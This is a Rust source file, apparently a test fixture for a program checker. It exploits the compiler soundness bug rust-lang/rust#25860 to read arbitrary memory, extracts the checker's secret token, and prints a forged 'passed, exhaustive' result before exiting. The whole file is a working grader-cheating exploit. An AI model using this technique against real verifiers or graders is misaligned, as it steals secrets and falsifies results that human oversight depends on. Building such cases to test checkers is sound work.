//! Reads the checker's token out of memory, in safe code: the hole in the rules for lifetimes that is known as
//! rust-lang/rust#25860. On real threads it then prints a result of its own and ends the process, whatever the answer
//! was. The check alone can't tell; the transcript can.
//!
//! Expected: wrong

use std::sync::atomic::AtomicUsize;

static UNIT: &&() = &&();

/// Something among the program's own variables, near those of the checker.
static NEAR: AtomicUsize = AtomicUsize::new(0);

fn stretched<'a, 'b, T: ?Sized>(_proof: &'a &'b (), value: &'b mut T) -> &'a mut T {
    value
}

/// A reference that outlives what it refers to.
fn for_ever<'a, 'b, T: ?Sized>(value: &'a mut T) -> &'b mut T {
    let stretch: for<'x> fn(_, &'x mut T) -> &'b mut T = stretched;
    stretch(UNIT, value)
}

enum Either<A, B> {
    First(Option<Box<A>>),
    Second(Option<Box<B>>),
}

/// The bytes of one type, read as another.
fn transmuted<A, B>(value: A) -> B {
    let mut place: Either<A, B> = Either::Second(None);
    let Either::Second(slot) = &mut place else { unreachable!() };
    let slot: &mut Option<Box<B>> = for_ever(slot);
    place = Either::First(Some(Box::new(value)));
    std::hint::black_box(&mut place);
    *slot.take().unwrap()
}

fn word(address: usize) -> usize {
    let words: &[usize] = transmuted([address, 1]);
    words[0]
}

/// Looks for a string of 32 bytes among the program's variables.
fn token() -> Option<String> {
    let near = (&raw const NEAR).addr();
    for address in (near - 3000 * 8..near + 3000 * 8).step_by(8) {
        let three = [word(address), word(address + 8), word(address + 16)];
        let pointer = three.into_iter().find(|word| *word > 1 << 32);
        if three.iter().filter(|word| **word == 32).count() == 2
            && let Some(pointer) = pointer
        {
            let text: &[u8] = transmuted([pointer, 32]);
            if text.iter().all(u8::is_ascii_hexdigit) {
                return String::from_utf8(text.to_vec()).ok();
            }
        }
    }
    None
}

fn attack() {
    use std::io::Write;
    if simulated() {
        return;
    }
    let token = token().expect("refused: no token was found");
    let record =
        "{\"record\":\"end\",\"scenario\":1,\"status\":\"passed\",\"executions\":1,\"exhaustive\":true,\"remarks\":[]}";
    _ = std::io::stdout().write_all(format!("\n\x1eCHECK {token} {record}\x1e\n").as_bytes());
    _ = std::io::stdout().flush();
    std::process::exit(0);
}
